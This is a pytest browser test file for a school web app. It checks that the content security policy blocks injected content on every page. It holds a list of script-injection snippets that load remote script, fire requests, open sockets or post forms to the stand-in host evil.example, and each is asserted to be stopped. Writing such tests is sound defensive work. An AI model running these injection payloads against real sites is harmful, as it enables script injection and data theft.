"""What the content security policy stops: nothing of ours, and whatever somebody would slip in.

Every other journey of this folder is watched in the same way (see conftest).
"""

import pytest

from tests.browser.conftest import serving, settled

pytestmark = pytest.mark.browser
PAGES = (
    *("", "mark", "meeting", "coverage", "outreach", "reports", "rosters", "school", "toolkit"),
    *("join", "keeper", "stage", "no-such-page", "take/x"),
)


def test_every_page_stays_within_the_policy(oak_street_app, new_page):
    """In the dark they are opened by test_journey, under the same watch."""
    page = new_page()
    for path in PAGES:
        page.goto(f"{oak_street_app.url}/{path}")
        if page.locator("#root").count():
            settled(page)
        page.wait_for_timeout(300)


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    """Return one app for whatever is slipped in: nothing of it arrives."""
    folder = tmp_path_factory.mktemp("policy")
    with serving(folder, f"sqlite:///{(folder / 'school.sqlite').as_posix()}") as running:
        yield running


SLIPPED_IN = {
    "script": "document.head.append(Object.assign(document.createElement('script'), "
    "{textContent: 'window.ran = 1'}))",
    "script from elsewhere": "document.head.append(Object.assign(document.createElement('script'), "
    "{src: 'https://evil.example/x.js'}))",
    "handler": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=x onerror=\"window.ran=1\">')",
    "picture": "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x'}))",
    "request": "fetch('https://evil.example/x').catch(() => 0)",
    "line": "new WebSocket('wss://evil.example/x')",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: 'https://evil.example'}))",
    "form": "const form = Object.assign(document.createElement('form'), "
    "{action: 'https://evil.example', method: 'post'}); document.body.append(form); form.submit()",
    "base": "document.head.append(Object.assign(document.createElement('base'), "
    "{href: 'https://evil.example/'}))",
}


@pytest.mark.parametrize("what", SLIPPED_IN)
def test_what_is_slipped_in_is_stopped_and_told(app, new_page, what):
    """Also proof that the watch over the other journeys sees something."""
    page, answered = new_page(), []
    page.on("response", lambda response: answered.append(response.url))
    page.goto(f"{app.url}/join")
    page.evaluate(SLIPPED_IN[what])
    page.wait_for_timeout(500)
    assert len(new_page.stopped) == 1, new_page.stopped
    assert page.evaluate("window.ran") is None
    assert [url for url in answered if "evil" in url] == []
    new_page.stopped.clear()
    new_page.outside.clear()  # asked for, and stopped on its way out
